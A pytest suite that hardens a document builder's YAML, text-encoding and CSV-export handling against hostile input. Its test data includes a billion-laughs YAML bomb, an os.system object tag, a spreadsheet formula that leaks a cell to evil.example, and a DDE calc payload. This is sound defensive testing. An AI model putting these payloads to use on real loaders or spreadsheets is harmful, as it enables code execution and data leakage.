"""Hardening (issue 18): hostile or broken input ends, quickly, in one line naming the file and
the line; never a traceback, a hang or garbage decoded as text. Spreadsheet formulas in the CSV
export are neutralised. The cost of a report grows with its text, not with the square of its
paragraphs.

Each class: safe YAML (manifest, glossary, translations, editorial notes), files (GB18030
plausibility), CSV, linear cost, ``python -m builder check`` reading the glossary and the
translations; then a hostile-input suite through the command line on a copy of the project.
"""
from __future__ import annotations

import csv
import hashlib
import importlib.util
import io
import random
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from conftest import ROOT, copy_project
from hypothesis import given, settings
from hypothesis import strategies as st
from test_bad_input import TEXT, error_of, write_manifest

from builder.errors import SourceError
from builder.inputs.yamlfile import LinedDict, load_yaml
from builder.report.pipeline import load_corpus

REPORT = "2022-government-work-report-summary"  # its source and translation are the ones broken
FILES = {  # the YAML data files, relative to the project
    "manifest": "source_texts/manifest.yaml",
    "glossary": "glossary.yaml",
    "translation": f"translations/en/{REPORT}.yaml",
    "editorial notes": "source_texts/editorial-notes.yaml",
}


def one_line(err: BaseException | str) -> str:
    text = str(err)
    assert "\n" not in text.strip() and "Traceback" not in text, text
    return text


# --- safe YAML ---------------------------------------------------------------------------------

LAUGHS = "".join(f"l{k}: &l{k} [{', '.join([f'*l{k - 1}'] * 9)}]\n" for k in range(1, 10))
HOSTILE_YAML = {  # name: (text put at the top of the file, words of the message, line of the error)
    "billion laughs": ("l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + LAUGHS, "anchor '&l0'", 1),
    "recursive alias": ("x: &x [*x]\n", "anchor '&x'", 1),
    "alias": ("a: 1\nb: *nowhere\n", "alias '*nowhere'", 2),
    "python name tag": ("x: !!python/name:os.system\n", "tag '!!python/name:os.system' is not allowed", 1),
    "python object": ("x: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
                      "tag '!!python/object/apply:os.system' is not allowed", 1),
    "custom tag": ("a: 1\nb: !secret db_password\n", "tag '!secret' is not allowed", 2),
    "standard tag": ("x: !!str 1\n", "tag '!!str' is not allowed", 1),
    "merge key": ("x:\n  <<: {a: 1}\n  b: 2\n", "merge key '<<' is not supported", 2),
    "deep flow nesting": ("x: " + "[" * 100_000 + "\n", "nested more than 64 levels", 1),
    "deep block nesting": ("".join(" " * k + f"k{k}:\n" for k in range(200)), "nested more than 64 levels", 65),
    "second document": ("x: 1\n---\ny: 2\n", "more than one YAML document", 2),
    "impossible date": ("x: 2023-13-45\n", "cannot read the value '2023-13-45'", 1),
    "huge integer": ("x: " + "9" * 5000 + "\n", "cannot read the value", 1),
    "control character": ("x: 1\ny: \x07\n", "control characters are not allowed", 2),
}


def _loader(kind: str):
    from builder.glossary.model import load_glossary
    from builder.inputs.manifest import load_manifest
    from builder.report import editorial
    from builder.translation.memory import load_entries

    return {"manifest": load_manifest, "glossary": load_glossary,
            "translation": lambda path: load_entries(path, REPORT),
            "editorial notes": lambda path: editorial.apply([], path)}[kind]


@pytest.mark.parametrize("case", HOSTILE_YAML)
@pytest.mark.parametrize("kind", FILES)
def test_hostile_yaml_stops_at_once_with_file_and_line(tmp_path, kind, case):
    text, words, line = HOSTILE_YAML[case]
    path = tmp_path / Path(FILES[kind]).name
    path.write_text(text + (ROOT / FILES[kind]).read_text(encoding="utf-8"), encoding="utf-8")
    start = time.perf_counter()
    with pytest.raises(SourceError) as info:
        _loader(kind)(path)
    assert time.perf_counter() - start < 1.0
    assert one_line(info.value).startswith(f"{path}:{line}: ") and words in info.value.message, str(info.value)


def test_quoted_merge_key_and_tag_lookalikes_are_plain_text(tmp_path):
    path = tmp_path / "x.yaml"
    path.write_text("'<<': 1\nb: '!secret'\nc: '&a *a'\nd: =\n", encoding="utf-8")
    assert load_yaml(path) == {"<<": 1, "b": "!secret", "c": "&a *a", "d": "="}


def _lines(node: yaml.Node, data) -> None:
    """The lines LinedDict records are those of the nodes PyYAML composes."""
    if isinstance(node, yaml.MappingNode):
        assert isinstance(data, LinedDict) and data.line == node.start_mark.line + 1
        for key, value in node.value:
            assert data.line_of(key.value) == key.start_mark.line + 1
            _lines(value, data[key.value])
    elif isinstance(node, yaml.SequenceNode):
        for child, item in zip(node.value, data, strict=True):
            _lines(child, item)


@pytest.mark.parametrize("name", [*FILES.values(), "published_anchors.yaml",
                                  *[f"translations/en/{p.name}" for p in sorted((ROOT / "translations/en").glob("*.yaml"))]])
def test_real_data_files_load_as_before_with_their_lines(name):
    text = (ROOT / name).read_text(encoding="utf-8")
    data = load_yaml(ROOT / name)
    assert data == yaml.safe_load(text)
    _lines(yaml.compose(text, Loader=yaml.SafeLoader), data)


# --- files: GB18030 only when it reads as text --------------------------------------------------

def test_real_texts_saved_as_gb18030_are_read_as_before(tmp_path, corpus):
    project = copy_project(tmp_path)
    manifest = project / "source_texts" / "manifest.yaml"
    text = manifest.read_text(encoding="utf-8")
    for source in sorted((project / "source_texts").glob("*.txt")):
        utf8 = source.read_bytes()
        source.write_bytes(utf8.decode("utf-8").encode("gb18030"))
        text = text.replace(hashlib.sha256(utf8).hexdigest(), hashlib.sha256(source.read_bytes()).hexdigest())
    manifest.write_text(text, encoding="utf-8")
    reports = load_corpus(manifest)
    assert {r.encoding for r in reports} == {"gb18030"}
    for report in reports:
        assert [(b.anchor, b.text) for b in report.blocks] == [(b.anchor, b.text) for b in corpus[report.id].blocks]


def test_a_traditional_text_saved_as_gb18030_is_text(tmp_path):
    text = (ROOT / "tests/fixtures/other_cities/qinglan-2025-traditional-news.txt").read_text(encoding="utf-8")
    assert load_corpus(write_manifest(tmp_path, text.encode("gb18030")))[0].encoding == "gb18030"


def _decodable_garbage(seed: int, size: int) -> bytes:
    """Uniformly random bytes, kept only as far as GB18030 decodes them: garbage that "decodes"."""
    data = random.Random(seed).randbytes(size).replace(b"\x00", b"")
    return data.decode("gb18030", errors="ignore").encode("gb18030")


@settings(max_examples=150, deadline=None, derandomize=True)
@given(seed=st.integers(0, 2**32), size=st.integers(256, 16384))
def test_garbage_that_decodes_as_gb18030_is_refused(tmp_path_factory, seed, size):
    folder = tmp_path_factory.mktemp("garbage")
    err = one_line(error_of(write_manifest(folder, _decodable_garbage(seed, size))))
    assert re.match(rf"{re.escape(str(folder / 'r.txt'))}:\d+: not valid UTF-8 \(byte \d+\) and not plausible "
                    r"GB18030 text: \d+% of its characters are control, private-use or rare characters", err), err
    assert err.endswith("save it as UTF-8")


@settings(max_examples=150, deadline=None, derandomize=True)
@given(data=st.binary(min_size=1, max_size=4096))
def test_any_bytes_are_text_or_one_line(tmp_path_factory, data):
    folder = tmp_path_factory.mktemp("bytes")
    try:
        load_corpus(write_manifest(folder, data))
    except SourceError as exc:
        assert "r.txt" in one_line(exc)


def test_a_utf8_mark_before_invalid_utf8_is_one_line(tmp_path):
    err = one_line(error_of(write_manifest(tmp_path, b"\xef\xbb\xbf" + TEXT.encode() + b"\xff\xfe\x81")))
    assert err.startswith(f"{tmp_path / 'r.txt'}:4: starts with a UTF-8 mark but is not valid UTF-8")


# --- CSV export ---------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_csv_cells_that_read_as_formulas_are_neutralised(tmp_path, corpus):
    from builder.export.data import glossary_csv, glossary_json
    from builder.glossary import concordance
    from builder.glossary.model import load_glossary

    path = tmp_path / "glossary.yaml"
    text = (ROOT / "glossary.yaml").read_text(encoding="utf-8")
    first = text.index("- id: ")  # the first term: its English name, definition and note become formulas
    head, body = text[:first], text[first:]
    body = re.sub(r"\n  en: [^\n]*", "\n  en: '" + FORMULA.replace("'", "''") + "'", body, count=1)
    body = re.sub(r"\n  definition: >-\n(    [^\n]*\n)+", "\n  definition: '@SUM(1+1)*cmd|'' /C calc''!A0'\n",
                  body, count=1)
    body = re.sub(r"\n  note: [^\n]*", "\n  note: '-2+3'", body, count=1)
    path.write_text(head + body, encoding="utf-8")
    glossary = load_glossary(path)
    reports = list(corpus.values())
    conc = concordance.build(reports, glossary)
    rows = list(csv.DictReader(io.StringIO(glossary_csv(glossary, conc, reports))))
    import json

    records = {t["id"]: t for t in json.loads(glossary_json(glossary, conc, reports))["terms"]}
    hostile = rows[0]
    assert hostile["en"] == "'" + FORMULA
    assert hostile["definition"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert hostile["note"] == "'-2+3"
    assert records[hostile["id"]]["en"] == FORMULA  # the JSON keeps the exact text
    for row in rows:  # no cell starts a formula; every other cell is what the JSON holds
        for field, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (field, value)
        record = records[row["id"]]
        for field in ("term", "pinyin", "definition", "level", "category", "url"):
            original = record[field] or ""
            assert row[field] == ("'" + original if original.startswith(("=", "+", "-", "@", "\t", "\r"))
                                  else original)
    assert sum(v.startswith("'") for row in rows for v in row.values()) == 3


def test_neutralise_leaves_ordinary_cells_alone():
    from builder.export.data import neutralise

    for cell in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert neutralise(cell) == "'" + cell
    for cell in ("1+1", "两个维护", "Two Upholds", "", "a=b", " =1", 12, None):
        assert neutralise(cell) == cell


# --- linear cost --------------------------------------------------------------------------------

spec = importlib.util.spec_from_file_location("bench", ROOT / "benchmarks" / "run.py")
bench = importlib.util.module_from_spec(spec)
spec.loader.exec_module(bench)


def _cpu_seconds(folder: Path, megabytes: int, near: bool) -> tuple[float, int]:
    data = bench.short_paragraph_source(megabytes * 2**20 - 64, near)
    manifest = bench.single_report(folder / f"{megabytes}-{near}", data)
    start = time.process_time()  # CPU time: steadier than the clock on a busy machine
    report = load_corpus(manifest)[0]
    return time.process_time() - start, len(report.blocks)


@pytest.mark.parametrize("near", [False, True], ids=["distinct", "near repeats"])
def test_short_paragraphs_cost_grows_with_the_text(tmp_path, near):
    """~13 000 and ~51 000 paragraphs: four times the text must cost well under 16 times the
    time (comparing every paragraph with every earlier one did not finish 4 MB in minutes)."""
    import jieba

    jieba.initialize()  # loaded once per build before the builder runs: not part of the cost
    load_corpus(bench.single_report(tmp_path / "warm", TEXT.encode()))
    small, small_blocks = _cpu_seconds(tmp_path, 1, near)
    large, large_blocks = _cpu_seconds(tmp_path, 4, near)
    assert large_blocks > 3 * small_blocks
    assert large / small < 6, f"1 MB: {small:.1f} s, 4 MB: {large:.1f} s"


# --- python -m builder check --------------------------------------------------------------------

def check(project: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "builder", "--config", str(project / "mkdocs.yml"), "check"],
                          capture_output=True, text=True, cwd=project)


def test_check_reads_the_glossary(tmp_path):
    project = copy_project(tmp_path)
    glossary = project / "glossary.yaml"
    text = glossary.read_text(encoding="utf-8")
    line = text[:text.index("\n  level: ")].count("\n") + 2
    glossary.write_text(text.replace("\n  level: ", "\n  levle: ", 1), encoding="utf-8")
    result = check(project)
    assert result.returncode == 1 and result.stdout == ""
    assert one_line(result.stderr).startswith(f"error: {glossary}:{line}: ")
    assert "levle" in result.stderr


def test_check_reads_the_translations_and_evidence(tmp_path):
    project = copy_project(tmp_path)
    memory = project / FILES["translation"]
    text = memory.read_text(encoding="utf-8")
    line = text[:text.index("\n    fingerprint: ")].count("\n") + 2
    memory.write_text(re.sub(r"\n    fingerprint: '[0-9a-f]+'", "\n    fingerprint: '000000000000'", text, count=1),
                      encoding="utf-8")
    result = check(project)
    assert result.returncode == 1
    assert one_line(result.stderr).startswith(f"error: {memory}:{line}: ") and "fingerprint" in result.stderr


def test_check_passes_on_the_project_and_says_what_it_read(tmp_path):
    result = check(copy_project(tmp_path))
    assert result.returncode == 0, result.stderr
    assert re.search(r"glossary\.yaml: \d+ terms, \d+ ignored, \d+ evidence quotes found", result.stdout)
    assert f"{REPORT}: " in result.stdout and "English" in result.stdout


# --- the hostile-input suite, through the command line ------------------------------------------

def _yaml_case(file: str, case: str):
    def apply(project: Path) -> tuple[Path, int]:
        text, _, line = HOSTILE_YAML[case]
        path = project / FILES[file]
        path.write_text(text + path.read_text(encoding="utf-8"), encoding="utf-8")
        return path, line
    return apply


def _source_case(data_of):
    """The broken report's source replaced (its SHA-256 recorded, as an editor would)."""
    def apply(project: Path) -> tuple[Path, int | None]:
        source = project / "source_texts" / f"{REPORT}.txt"
        manifest = project / FILES["manifest"]
        old = hashlib.sha256(source.read_bytes()).hexdigest()
        data = data_of(source.read_bytes())
        source.write_bytes(data)
        manifest.write_text(manifest.read_text(encoding="utf-8").replace(old, hashlib.sha256(data).hexdigest()),
                            encoding="utf-8")
        return source, None
    return apply


def _typo(project: Path) -> tuple[Path, int]:
    path = project / "glossary.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("\n  level: ", "\n  levle: ", 1), encoding="utf-8")
    return path, text[:text.index("\n  level: ")].count("\n") + 2


HOSTILE = {
    **{f"{file}: {case}": _yaml_case(file, case)
       for file in ("manifest", "glossary", "translation")
       for case in ("billion laughs", "recursive alias", "python name tag", "custom tag", "merge key")},
    "glossary: deep flow nesting": _yaml_case("glossary", "deep flow nesting"),
    "editorial notes: python object": _yaml_case("editorial notes", "python object"),
    "glossary: typo": _typo,
    "source: garbage decoding as GB18030": _source_case(lambda _: _decodable_garbage(18, 8192)),
    "source: UTF-8 mark, then not UTF-8": _source_case(lambda data: b"\xef\xbb\xbf" + data + b"\xc0"),
    "source: binary": _source_case(lambda data: data + b"\x00\x01"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_input_through_the_command_line(tmp_path, case):
    project = copy_project(tmp_path)
    path, line = HOSTILE[case](project)
    start = time.perf_counter()
    result = check(project)
    seconds = time.perf_counter() - start
    assert result.returncode == 1, result.stdout
    assert "Traceback" not in result.stderr
    where = f"{path}:{line}: " if line else f"{path}"
    assert one_line(result.stderr).startswith(f"error: {where}"), result.stderr
    # a whole check of the project takes a few seconds; a bomb or a deep nesting used to hang
    assert seconds < 30, f"{seconds:.1f} s"
